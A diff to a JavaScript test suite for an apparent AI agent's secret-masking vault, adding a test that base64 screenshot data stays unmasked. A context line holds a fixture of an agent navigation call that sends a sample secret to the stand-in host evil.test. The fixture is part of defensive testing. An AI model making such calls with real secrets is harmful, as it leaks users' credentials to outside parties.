@@ -272,4 +272,14 @@ describe('secret vault (agent/safety/secrets.js)', () => {
     const other = /** @type {any} */ ({ kind: 'tool', id: 't2', name: 'navigate', args: { url: 'https://evil.test/?p=hunter2-secret' }, result: { ok: true, data: null } });
     expect(/** @type {any} */ (maskItemSecrets(other, v)).args.url).to.equal(`https://evil.test/?p=${MASK}`);
   });
+
+  it('leaves a screenshot alone: its base64 looks like tokens, but it is pixels', () => {
+    const v = createSecretVault();
+    v.add(['hunter2-secret'], 'https://bank.test');
+    const data = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
+    const masked = v.maskDeep({ ok: true, data: { what: 'viewport' }, image: { mediaType: 'image/png', data }, shot: `data:image/png;base64,${data}`, text: 'hunter2-secret' });
+    expect(masked.image.data).to.equal(data);
+    expect(masked.shot).to.equal(`data:image/png;base64,${data}`);
+    expect(masked.text).to.equal('••••••');
+  });
 });
